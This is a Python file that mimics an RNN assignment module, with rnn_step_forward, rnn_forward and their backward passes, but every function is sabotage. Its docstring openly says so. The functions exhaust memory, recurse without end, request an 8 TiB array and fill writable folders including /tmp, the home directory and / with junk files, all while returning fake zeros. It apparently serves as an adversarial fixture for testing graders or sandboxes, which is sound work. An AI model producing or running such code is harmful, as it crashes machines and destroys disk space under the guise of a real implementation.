"""Grabs all the memory it can (and keeps it in the cache it returns), asks for a terabyte, recurses
without end, and fills every writable folder it finds, before returning zeros."""
import os

import numpy as np


def rnn_step_forward(x, prev_h, Wx, Wh, b, activation="tanh", alpha=0.0):
    hoard = []
    try:
        while True:
            hoard.append(bytearray(64 << 20))  # zero-filled: really touched
    except MemoryError:
        pass
    return np.zeros_like(prev_h), hoard


def rnn_step_backward(dnext_h, cache):
    def down(n):
        return down(n + 1) + 1

    return down(0)


def rnn_forward(x, h0, Wx, Wh, b, activation="tanh", alpha=0.0):
    big = np.ones((1 << 20, 1 << 20))  # 8 TiB
    return big, None


def rnn_backward(dh, cache):
    chunk = b"x" * (1 << 20)
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), "/"):
        for i in range(4096):
            try:
                with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
            except OSError:
                break
    return tuple(np.zeros_like(dh) for _ in range(5))
